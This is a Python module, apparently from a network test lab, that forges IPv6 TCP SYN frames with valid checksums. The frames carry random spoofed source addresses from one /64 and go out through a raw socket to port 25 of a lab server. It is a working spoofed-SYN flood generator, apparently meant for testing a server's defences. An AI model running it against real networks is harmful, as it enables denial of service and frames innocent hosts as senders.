"""Forged SYNs: whole Ethernet frames in somebody else's name, sent past the client's own TCP.

Invariants:
    frames-are-valid: the receiving TCP accepts length and checksum, so a forged SYN is judged like a real one.
"""

from __future__ import annotations

import random
import socket
import struct
from ipaddress import IPv6Address

from edge.lab import network

_ETH_P_IPV6 = 0x86DD
_SYN = 0x02
_MSS_1440 = b"\x02\x04\x05\xa0"  # RFC 9293 3.2: an option every real SYN carries
_TCP_WORDS = 6  # 20 bytes of header and the option


def syn_frame(source: IPv6Address, destination: IPv6Address, *, source_port: int, port: int, sequence: int) -> bytes:
    """One SYN from `source`, with the lab's link addresses and a right checksum."""
    length = 4 * _TCP_WORDS
    pseudo = source.packed + destination.packed + struct.pack("!I3xB", length, socket.IPPROTO_TCP)  # RFC 8200 8.1

    def segment(checksum: int) -> bytes:
        fields = (source_port, port, sequence, 0, _TCP_WORDS << 4, _SYN, 64240, checksum, 0)
        return struct.pack("!HHIIBBHHH", *fields) + _MSS_1440

    header = struct.pack("!IHBB", 6 << 28, length, socket.IPPROTO_TCP, 64) + source.packed + destination.packed
    link = bytes.fromhex((network.SERVER_MAC + network.CLIENT_MAC).replace(":", "")) + struct.pack("!H", _ETH_P_IPV6)
    return link + header + segment(internet_checksum(pseudo + segment(0)))


def internet_checksum(data: bytes) -> int:
    """The one's-complement sum of RFC 1071, complemented; `data` has an even length."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Forger:
    """Sends SYNs from random addresses of one /64; made while the client namespace is entered."""

    def __init__(self, victim: str, seed: int) -> None:
        self._net = int(IPv6Address(victim)) >> 64 << 64
        self._rng = random.Random(f"{seed}/forger")  # noqa: S311 - a schedule that can be repeated, not a secret
        self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self._socket.bind((network.CLIENT_LINK, 0))
        self._socket.setblocking(False)
        self.sent = 0
        self.failed = 0  # the link's queue was full

    def send(self) -> None:
        """One forged SYN."""
        rng = self._rng
        frame = syn_frame(
            IPv6Address(self._net | rng.getrandbits(64)),
            IPv6Address(network.SERVER_V6),
            source_port=rng.randrange(1024, 65536),
            port=25,
            sequence=rng.getrandbits(32),
        )
        try:
            self._socket.send(frame)
            self.sent += 1
        except BlockingIOError:
            self.failed += 1

    def close(self) -> None:
        """Close the raw socket."""
        self._socket.close()
